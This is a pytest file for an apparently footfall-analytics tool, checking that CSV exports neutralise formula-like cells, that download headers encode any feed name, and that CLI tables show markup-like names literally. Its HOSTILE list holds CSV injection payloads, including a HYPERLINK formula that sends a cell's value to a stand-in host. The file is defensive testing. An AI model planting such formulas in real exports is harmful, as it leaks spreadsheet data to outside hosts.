"""Agent-chosen text is data, never code: CSV cells cannot become formulas, any feed name
downloads (RFC 6266), and CLI tables print markup-like names literally. Both engines."""

from __future__ import annotations

import copy
import json
from urllib.parse import quote

import httpx
from typer.testing import CliRunner

from footfall.cli.main import app
from footfall.domain.feeds import content_disposition, csv_document
from footfall.services import feeds
from footfall.store.db import Database
from tests.conftest import Site
from tests.helpers import STORE_CONFIG, event, ingest_directly

HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"Click")', "+1+1", "-2", "@SUM(A1)", "\tTab", "\rCR"]


def test_text_cells_that_start_a_formula_are_prefixed() -> None:
    document = csv_document(["2026-11-25 10:00"], [(name, [1]) for name in HOSTILE])
    header = document.split("\r\n")[0]
    assert header == (
        '"Date","\'=HYPERLINK(""http://x.test/?""&A1,""Click"")","\'+1+1","\'-2","\'@SUM(A1)",'
        '"\'\tTab","\'\rCR"'
    )
    # Numbers stay numbers, dates stay dates, harmless text is unchanged.
    assert document.split("\r\n")[1] == '"2026-11-25 10:00",1,1,1,1,1,1'
    assert csv_document(["x"], [("Enter", [-3])]).split("\r\n")[1] == '"x",-3'


def test_content_disposition_is_ascii_with_the_full_name_in_filename_star() -> None:
    value = content_disposition('Entrées "café" 東京', ".csv")
    value.encode("latin-1")  # a valid header value
    assert value == (
        "inline; filename=\"Entr_es _caf__ __.csv\"; filename*=UTF-8''"
        + quote('Entrées "café" 東京.csv', safe="")
    )


def test_feed_csv_guards_cells_and_downloads_any_name(
    http: httpx.Client, db: Database, site: Site
) -> None:
    config = copy.deepcopy(STORE_CONFIG)
    config["channels"][0]["triggers"][0]["name"] = HOSTILE[0]
    ingest_directly(db, site.location_id, [event(1)], config=config)
    made = feeds.create_feed(
        db,
        location_id=site.location_id,
        name="Entrées 東京 =1+1",
        metric="count",
        triggers=("t-enter",),
        period="today",
    )
    answer = http.get(f"/feed/report/{made.token}/csv")
    assert answer.status_code == 200
    assert answer.text.startswith('"Date","\'=HYPERLINK(""http://x.test/?""&A1,""Click"")"\r\n')
    disposition = answer.headers["content-disposition"]
    assert disposition == content_disposition("Entrées 東京 =1+1", ".csv")
    assert "filename*=UTF-8''Entr%C3%A9es%20%E6%9D%B1%E4%BA%AC%20%3D1%2B1.csv" in disposition
    # The JSON keeps the names as they are: only CSV is read by spreadsheets.
    report = http.get(f"/feed/report/{made.token}").json()["report"]
    assert report["data"]["series"][0]["name"] == HOSTILE[0]


def test_cli_tables_print_markup_like_names_literally(
    db_url: str, db: Database, site: Site
) -> None:
    config = copy.deepcopy(STORE_CONFIG)
    config["version"] = "[/]"
    ingest_directly(db, site.location_id, config=config)
    runner = CliRunner()
    named = runner.invoke(
        app, ["accounts", "create", "[bold red]Acme[/bold red] [link=x]", "--db", db_url]
    )
    assert named.exit_code == 0, named.output
    assert "[bold red]Acme[/bold red] [link=x]" in named.stdout
    listed = runner.invoke(app, ["locations", "list", "--db", db_url])
    assert listed.exit_code == 0, listed.output
    assert "[/]" in listed.stdout
    accounts = runner.invoke(app, ["accounts", "list", "--db", db_url])
    assert accounts.exit_code == 0, accounts.output
    assert "[bold red]Acme[/bold red]" in accounts.stdout.replace("\n", "")
    as_json = json.loads(runner.invoke(app, ["locations", "list", "--json", "--db", db_url]).stdout)
    assert as_json["locations"][0]["version"] == "[/]"
